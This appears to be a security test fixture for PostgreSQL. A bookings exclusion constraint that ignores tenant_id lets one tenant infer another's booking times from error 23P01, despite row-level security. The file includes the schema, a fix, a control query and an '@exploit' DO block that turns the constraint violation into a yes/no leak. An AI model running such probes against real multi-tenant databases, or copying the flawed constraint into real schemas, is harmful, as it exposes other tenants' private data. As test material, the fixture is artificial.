-- What: Rooms are booked without overlap, over all tenants.
-- Class: unique_oracle
-- Object: public.bookings
-- Exploit: A booking that another tenant's overlaps fails with 23P01: when it has booked is known.
-- @superuser
create extension btree_gist;
-- @schema
create table bookings (id bigint generated always as identity primary key, tenant_id uuid not null, room int not null,
  during tstzrange not null,
  constraint one_at_a_time exclude using gist (room with =, during with &&));
alter table bookings enable row level security;
alter table bookings force row level security;
create policy tenant on bookings using (tenant_id::text = current_setting('app.tenant_id', true));
grant select, insert, update, delete on bookings to app_user;
-- @rows
insert into bookings (tenant_id, room, during) values (:'A', 1, '[2024-01-01 08:00+00, 2024-01-01 09:00+00)'),
  (:'B', 1, '[2024-01-01 10:00+00, 2024-01-01 11:00+00)');
-- @fix
alter table bookings drop constraint one_at_a_time;
alter table bookings add constraint one_at_a_time exclude using gist (tenant_id with =, room with =, during with &&);
-- @control
select from bookings where tenant_id = :'A';
-- @exploit
do $$ begin
  insert into bookings (tenant_id, room, during) values ('aaaaaaaa-0000-4000-8000-000000000001', 1,
    '[2024-01-01 10:30+00, 2024-01-01 10:45+00)');
exception when exclusion_violation then
  perform set_config('loot.text', 'taken', false);
end $$;
select 1 where current_setting('loot.text', true) = 'taken';
